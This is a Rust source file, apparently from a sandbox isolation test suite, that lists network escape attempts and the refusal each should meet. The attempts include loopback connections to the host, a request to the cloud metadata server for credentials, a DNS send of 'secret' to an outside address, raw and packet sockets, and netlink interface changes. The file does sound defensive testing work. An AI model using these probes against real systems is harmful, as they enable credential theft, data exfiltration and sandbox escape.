//! The network: the host's own servers, other machines, and the packets beneath.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::UnixStream;
use std::time::Duration;

use crate::kernel::{call, call_for_fd, memory};
use crate::{Attack, Bare, Outcome, Wall, attack};

pub const ATTACKS: &[Attack] = &[
    attack(
        "host-loopback",
        "connects to a server on the host's loopback",
        Wall::Net,
        "refused ECONNREFUSED",
        |world| connect(([127, 0, 0, 1], world.port).into()),
    ),
    attack("host-loopback-6", "connects to it by IPv6", Wall::Net, "refused ECONNREFUSED", |world| {
        connect(([0, 0, 0, 0, 0, 0, 0, 1], world.port).into())
    })
    .bare(Bare::Depends),
    attack(
        "host-loopback-mapped",
        "connects to it by an IPv4 address in IPv6 clothes",
        Wall::Net,
        "refused ECONNREFUSED",
        |world| connect(([0, 0, 0, 0, 0, 0xffff, 0x7f00, 1], world.port).into()),
    ),
    attack("host-any-address", "connects to it by 0.0.0.0", Wall::Net, "refused ECONNREFUSED", |world| {
        connect(([0, 0, 0, 0], world.port).into())
    }),
    attack(
        "metadata-server",
        "asks the cloud's metadata server for credentials",
        Wall::Net,
        "refused ENETUNREACH",
        |_| connect(([169, 254, 169, 254], 80).into()),
    )
    .bare(Bare::NotTried),
    attack("metadata-server-6", "asks it by IPv6", Wall::Net, "refused ENETUNREACH", |_| {
        connect(([0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254], 80).into())
    })
    .bare(Bare::NotTried),
    attack("internet", "connects to another machine", Wall::Net, "refused ENETUNREACH", |_| {
        connect(([192, 0, 2, 1], 443).into())
    })
    .bare(Bare::NotTried),
    attack("name-server", "sends data out as a question to a name server", Wall::Net, "refused ENETUNREACH", |_| {
        let socket = match UdpSocket::bind("0.0.0.0:0") {
            Ok(socket) => socket,
            Err(error) => return error.into(),
        };
        Outcome::of(socket.send_to(b"secret", "192.0.2.53:53"), "it was sent")
    })
    .bare(Bare::NotTried),
    attack(
        "abstract-socket",
        "connects to a socket of the host that has no file",
        Wall::Net,
        "refused ECONNREFUSED",
        |world| {
            let address = std::os::unix::net::SocketAddr::from_abstract_name(&world.abstract_name);
            Outcome::of(address.and_then(|address| UnixStream::connect_addr(&address)), "it answered")
        },
    ),
    attack("path-socket", "connects to a socket of the host by its path", Wall::View, "refused ENOENT", |world| {
        Outcome::of(UnixStream::connect(world.outside.join("socket")), "it answered")
    }),
    attack("raw-socket", "forges packets with a raw socket", Wall::Filter, "refused EPERM", |_| {
        socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)
    }),
    attack("raw-socket-6", "forges IPv6 packets", Wall::Filter, "refused EPERM", |_| {
        socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6)
    })
    .bare(Bare::Depends),
    attack("packet-socket", "listens to all packets", Wall::Filter, "refused EAFNOSUPPORT", |_| {
        socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300)
    }),
    attack("old-packet-socket", "listens to all packets in the oldest way", Wall::Filter, "refused EPERM", |_| {
        socket(libc::AF_INET, 10, 0x0300)
    })
    .bare(Bare::Depends),
    attack(
        "netlink-families",
        "talks to the kernel's firewall, audit and crypto",
        Wall::Filter,
        "refused EAFNOSUPPORT",
        |_| {
            Outcome::all([
                ("netfilter", socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER)),
                ("audit", socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_AUDIT)),
                ("events", socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_KOBJECT_UEVENT)),
                ("generic", socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_GENERIC)),
                ("xfrm", socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_XFRM)),
            ])
        },
    ),
    attack("change-interface", "changes a network interface by netlink", Wall::Capabilities, "refused EPERM", |_| {
        netlink_change()
    }),
    attack("virtual-machine-socket", "talks to the hypervisor", Wall::Filter, "refused EAFNOSUPPORT", |_| {
        socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0)
    })
    .bare(Bare::Depends),
    attack(
        "rare-sockets",
        "makes sockets of families that few programs use",
        Wall::Filter,
        "refused EAFNOSUPPORT",
        |_| {
            const FAMILIES: [(&str, i32); 8] = [
                ("AF_ALG", libc::AF_ALG),
                ("AF_BLUETOOTH", libc::AF_BLUETOOTH),
                ("AF_TIPC", libc::AF_TIPC),
                ("AF_CAN", libc::AF_CAN),
                ("AF_RDS", libc::AF_RDS),
                ("AF_KEY", libc::AF_KEY),
                ("AF_X25", libc::AF_X25),
                ("AF_XDP", libc::AF_XDP),
            ];
            Outcome::all(FAMILIES.map(|(name, family)| (name, socket(family, libc::SOCK_SEQPACKET, 0))))
        },
    )
    .bare(Bare::Depends),
    attack("interfaces", "finds an interface besides loopback", Wall::Net, "harmless: found 0 interfaces", |_| {
        let table = std::fs::read_to_string("/proc/self/net/dev").unwrap_or_default();
        let names = table.lines().filter_map(|line| line.split_once(':')).filter(|(name, _)| name.trim() != "lo");
        crate::files::found(names.count(), "interfaces")
    })
    .bare(Bare::Depends),
    attack("low-port-outside", "takes the host's port from it", Wall::Net, "harmless: its port is its own", |world| {
        // The host's server has the port already: inside it is free, and that is the proof that it is another.
        match std::net::TcpListener::bind(("127.0.0.1", world.port)) {
            Ok(_) => Outcome::harmless("its port is its own"),
            Err(error) => Outcome::escaped(format!("the port is the host's: {error}")),
        }
    }),
];

fn connect(address: SocketAddr) -> Outcome {
    let stream = TcpStream::connect_timeout(&address, Duration::from_secs(3));
    match stream {
        Ok(mut stream) => Outcome::of(stream.write_all(b"x"), "it answered"),
        Err(error) if error.kind() == io::ErrorKind::TimedOut => Outcome::escaped("packets leave, nobody answered"),
        Err(error) => error.into(),
    }
}

fn socket(family: i32, kind: i32, protocol: i32) -> Outcome {
    let args = [family as usize, kind as usize, protocol as usize];
    Outcome::of(call_for_fd(libc::SYS_socket, &args), "there is a socket")
}

/// Asks to change the interface with the number 0, which there is not: only those who may get as far as that.
fn netlink_change() -> Outcome {
    let args = [libc::AF_NETLINK as usize, libc::SOCK_RAW as usize, libc::NETLINK_ROUTE as usize];
    let fd = match call_for_fd(libc::SYS_socket, &args) {
        Ok(fd) => fd,
        Err(error) => return error.into(),
    };
    let mut request = [0u32; 8];
    request[0] = 32;
    request[1] = u32::from(libc::RTM_SETLINK) | ((libc::NLM_F_REQUEST | libc::NLM_F_ACK) as u32) << 16;
    let sent = call(libc::SYS_sendto, &[fd.as_raw_fd() as usize, memory(&mut request), 32, 0, 0, 0]);
    let mut answer = [0u32; 64];
    let read =
        sent.and_then(|_| call(libc::SYS_recvfrom, &[fd.as_raw_fd() as usize, memory(&mut answer), 256, 0, 0, 0]));
    match (read, (answer[4] as i32).wrapping_neg()) {
        (Err(error), _) => error.into(),
        (Ok(_), libc::EPERM) => Outcome::Refused(libc::EPERM),
        (Ok(_), errno) => {
            Outcome::escaped(format!("the kernel asked for an interface: {}", crate::kernel::errno_name(errno)))
        }
    }
}
